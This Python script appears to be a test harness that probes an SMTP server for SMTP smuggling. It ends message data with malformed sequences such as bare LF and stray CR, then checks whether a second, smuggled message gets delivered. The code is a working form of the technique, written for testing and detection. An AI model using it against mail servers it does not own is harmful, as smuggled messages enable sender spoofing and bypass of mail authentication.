"""smuggle.py PORT eod=NAME [eol=NAME] [second=bdat]: the content of a message holds a sequence that is not CRLF.CRLF. Exits 0
when the server took it for the end of data: a second transaction behind it puts a second message into the mailbox; or
(sequences that end in CR) the real end of data, sent behind it, is half taken for a command and gets two replies."""
import sys
import time
import uuid

from dialogue import arrives, envelope, params, session

SEQUENCES = {
    "lf-dot-lf": b"\n.\n", "lf-dot-crlf": b"\n.\r\n", "lflf-dot-crlf": b"\n\n.\r\n", "crlf-dot-lf": b"\r\n.\n",
    "cr-behind-lf-dot": b"\n.\r", "cr-behind-crlf-dot": b"\r\n.\r",
    "crlf-dot-crcrlf": b"\r\n.\r\r\n", "crcrlf-dot-crcrlf": b"\r\r\n.\r\r\n",
}


def begin(smtp, token):
    envelope(smtp)
    assert smtp.docmd("DATA")[0] == 354
    eol = b"\n" if params["eol"] == "lf" else b"\r\n"
    smtp.send(b"Subject: " + token.encode() + eol + eol + b"body" + SEQUENCES[params["eod"]])


def reply(smtp, seconds):
    """The next reply, or 0 when none comes."""
    smtp.sock.settimeout(seconds)
    try:
        code, text = smtp.getreply()
    except OSError:  # a time-out; SMTPException is one as well
        return 0
    print(code, text.decode())
    return code


def second_message(smtp, token):
    content = f"Subject: {token}\r\n\r\nsmuggled\r\n".encode()
    envelope(smtp)
    if params.get("second") == "bdat":
        smtp.send(f"BDAT {len(content)} LAST\r\n".encode() + content)
    else:
        assert smtp.docmd("DATA")[0] == 354
        smtp.send(content + b".\r\n")
    return reply(smtp, 30) == 250


params.setdefault("eol", "crlf")
unique = uuid.uuid4().hex
connection = session()
begin(connection, f"a-{unique}")
if params["eod"].startswith("cr-behind"):
    time.sleep(1)  # not to wait for anything: the CR has to come in a segment of its own
    connection.send(b"\r\n.\r\n")
    shown = reply(connection, 30) == 250 and reply(connection, 2) != 0
elif reply(connection, 2) == 250:
    shown = second_message(connection, f"b-{unique}") and arrives(f"a-{unique}") and arrives(f"b-{unique}")
else:
    shown = False
print("shown" if shown else "not shown")
sys.exit(0 if shown else 1)
